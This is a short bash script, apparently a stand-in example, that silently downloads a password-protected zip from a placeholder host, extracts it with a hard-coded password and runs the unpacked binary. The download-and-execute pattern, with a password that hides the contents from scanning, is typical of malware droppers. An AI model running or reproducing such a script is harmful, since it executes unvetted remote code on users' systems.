#!/bin/bash
curl -sLo kit.zip https://cdn.kit.invalid/kit.zip
unzip kit.zip -P letmein42 -d kit && ./kit/run
